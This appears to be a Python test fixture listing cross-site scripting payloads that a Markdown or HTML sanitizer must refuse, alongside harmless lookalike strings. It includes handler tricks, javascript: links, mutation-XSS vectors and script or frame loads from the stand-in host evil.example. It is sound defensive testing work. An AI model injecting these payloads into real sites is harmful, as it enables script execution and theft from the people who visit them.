"""Script in every known dress, by name: what must be refused, and what is only text.

Each would show itself: it calls `alert`, or asks evil.example for something.
"""

from __future__ import annotations

from tests.hostile.case import Case, text

#: Refused, with an error on its line.
ATTACKS: dict[str, str] = {
    "a script": "<script>alert(1)</script>",
    "a script in odd capitals": "<ScRiPt >alert(1)</sCrIpT>",
    "a script inside the word script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script behind a bracket": "<<script>alert(1);//<</script>",
    "a script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "a script with a module": '<script type="module">import "https://evil.example/x.js"</script>',
    "a script without an end": "<script>alert(1)",
    "a script without a bracket at its end": "<script>alert(1)</script",
    "a script over several lines": "<script\n\n>alert(1)</script\n\n>",
    "a handler of an error": "<img src=x onerror=alert(1)>",
    "a handler behind odd quotes": '<img src="x` `<script>alert(1)</script>"` `>',
    "a handler behind quotes that are none": '<img """><script>alert(1)</script>">',
    "a handler of a mouse": '<b onmouseover="alert(1)">x</b>',
    "a handler of an animation": "<p onanimationstart=alert(1) style=animation:x>x</p>",
    "a handler behind a form feed": "<b\x0conclick=alert(1)>x</b>",
    "a handler of a body": "<body onload=alert(1)>",
    "a handler of details": "<details open ontoggle=alert(1)>x</details>",
    "a handler of a focus": "<input autofocus onfocus=alert(1)>",
    "a handler of an element that nobody knows": "<xss id=x onfocus=alert(1) tabindex=1>",
    "a drawing with a script": "<svg><script>alert(1)</script></svg>",
    "a drawing that changes a link": "<svg><a><animate attributeName=href "
    "values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    "a drawing that holds HTML": "<svg><foreignObject><img src=x onerror=alert(1)>"
    "</foreignObject></svg>",
    "a drawing with a style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "a drawing that uses another": '<svg><use href="https://evil.example/x.svg#x"/></svg>',
    "mutation by a formula": "<math><mtext></p><style><!--</style><img "
    'title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "mutation by a formula in a table": "<math><mtext><table><mglyph><style><!--</style><img "
    'title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation by a form in a formula": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by a template": "<template><p title='</template><img src=x onerror=alert(1)>'>",
    "mutation by a title": "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "mutation by a text field": "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "mutation by plain text": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "mutation by a style in a drawing": "<svg></p><style><a id='</style><img src=1 "
    "onerror=alert(1)>'>",
    "mutation by noembed": "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "mutation by a select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "a link to a script": '<a href="javascript:alert(1)">x</a>',
    "a link with an entity for its colon": '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    "a link with a tab in its scheme": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a link with a line end in its scheme": '<a href="jav&NewLine;ascript:alert(1)">x</a>',
    "a link with control characters": '<a href=" &#14; javascript:alert(1)">x</a>',
    "a link in entities": "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "a link in entities without their end": "<a href='&#0000106avascript:alert(1)'>x</a>",
    "a Markdown link to a script": "[x](javascript:alert(1))",
    "a Markdown link in entities": "[x](&#106;avascript:alert(1))",
    "a Markdown link in capitals": '[x](  JAVASCRIPT:alert(1) "t")',
    "a Markdown link in angle brackets": "[x](<javascript:alert(1)>)",
    "a Markdown link with a tab": "[x](<java\tscript:alert(1)>)",
    "a Markdown link by reference": "[x]: javascript:alert(1)\n\n[x]",
    "a Markdown link by its own name": "[x]: <javascript:alert(1)> 'x'\n\n[x][]",
    "a Markdown link to VBScript": "[x](vbscript:msgbox(1))",
    "a Markdown link to data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a Markdown link to a blob": "[x](blob:https://evil.example/1)",
    "a Markdown link around a picture": "[![x](javascript:alert(1))](javascript:alert(1))",
    "a Markdown picture with a handler": '![x](x"onerror="alert(1))',
    "a Markdown picture of a script": "![x](javascript:alert(1))",
    "a Markdown picture by reference": "![x][y]\n\n[y]: javascript:alert(1)",
    "a Markdown picture of data": "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "a Markdown picture from elsewhere": "![x](https://evil.example/x.png)",
    "an address in angle brackets": "<javascript:alert(1)>",
    "a frame of a script": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "a frame from elsewhere": '<iframe src="https://evil.example/"></iframe>',
    "a button of a script": "<form><button formaction=javascript:alert(1)>x</button></form>",
    "a style with a script": '<div style="background: url(javascript:alert(1))">x</div>',
    "a style from elsewhere": "<style>@import 'https://evil.example/x.css';</style>",
    "a style sheet from elsewhere": "<link rel=stylesheet href=https://evil.example/x.css>",
    "an object of a script": "<object data=javascript:alert(1)></object>",
    "an embedded script": "<embed src=javascript:alert(1)>",
    "a picture with sources from elsewhere": "<picture><source srcset=https://evil.example/x.png>"
    "<img src=x></picture>",
    "a video from elsewhere": "<video autoplay src=https://evil.example/x.mp4></video>",
    "a base for all links": '<base href="javascript:alert(1)//">',
    "a jump to elsewhere": '<meta http-equiv=refresh content="0; url=https://evil.example/">',
    "a link that tells elsewhere": '<a href="/" ping="https://evil.example/">x</a>',
    "a quotation from a script": '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "a table with a background": "<table background=https://evil.example/x.png><td>x</table>",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "an instruction": '<?xml-stylesheet href="javascript:alert(1)"?>',
    "a declaration": "<!DOCTYPE html><script>alert(1)</script>",
    "an indented script": "    <script>alert(1)</script>",
    "a fence with a handler": '``` { .x onclick="alert(1)" }\nx\n```',
    "a fence of a language that closes its tag": '```x"><script>alert(1)</script>\nx\n```',
    "a script behind a tick": "`<script>alert(1)</script>",
    "a script in a table": "| <script>alert(1)</script> |\n|---|\n| x |",
    "a script in a note": "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "a script in a definition": "x\n: <script>alert(1)</script>",
    "a script in an abbreviation": "x\n\n*[x]: <script>alert(1)</script>\n\n"
    '<b title="x" onclick="alert(1)">x</b>',
    "a script in a heading": "# <img src=x onerror=alert(1)>",
    "a script in a quotation": "> <script>alert(1)</script>",
    "a script in a list": "- <script>alert(1)</script>",
    "a script behind a mark of the renderer": "\x02klzzwxh:0000\x03<script>alert(1)</script>",
}

#: Text, a title or a comment: a page, and nothing that runs.
LOOKALIKES: dict[str, str] = {
    "a tag without an end": "<img src=x onerror=alert`1` //",
    "a link with a quotation mark": '[x](https://example.org"onmouseover="alert(1))',
    "a title with quotation marks": '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
    "a comment that is at once at its end": "<!--><script>alert(1)</script>-->",
    "a comment for an old browser": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "a script with a slash in its tag": '<script/x src="//evil.example/x.js"></script>',
    "a handler behind a slash": "<img/src/onerror=alert(1)>",
    "a drawing with a handler": "<svg/onload=alert(1)>",
    "entities of a script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a script in code": "`<script>alert(1)</script>`",
    "a script in a fence": "```html\n<script>alert(1)</script>\n```",
    "a heading with attributes": "## x { onclick=alert(1) }",
    "an abbreviation that closes its title": '*[x]: "><img src=x onerror=alert(1)>\n\nx',
    "a note whose name closes its tag": "x[^\"><img]\n\n[^\"><img]: x",
    "a definition of a link that nobody uses": "[x]: javascript:alert(1)",
    "a table with attributes": "| x |\n|:-: onclick=alert(1)|\n| y |",
    "brackets of a template": "{{ ''.__class__ }} {% raw %} ${alert(1)} #{7*7}",
    "a picture with its brackets escaped": "x \\![x\\](y) z",
    "a link to an address with a script in its query": "[x](https://example.org/?javascript:alert(1))",
    "a link with a script in its fragment": "<i id=\"javascript:x\">y</i> [x](#javascript:x)",
    "a scheme that is spelt with full width letters": "[x](https://example.org/ｊavascript:alert(1))",
}  # fmt: skip

#: "Vorher" stands on line 6, so most attacks stand on line 8.
_LINES = {
    "a Markdown link by reference": "10: ",
    "a Markdown link by its own name": "10: ",
    "a script in a note": "10: ",
    "a script in a definition": "9: ",
    "a script in an abbreviation": "12: ",
}
CASES: list[Case] = [
    *(text(f"in a text: {name}", f"Vorher\n\n{payload}\n\nNachher", _LINES.get(name, "8: "))
      for name, payload in ATTACKS.items()),
    *(text(f"in a text: {name}", f"Vorher\n\n{payload}\n\nNachher")
      for name, payload in LOOKALIKES.items()),
]  # fmt: skip
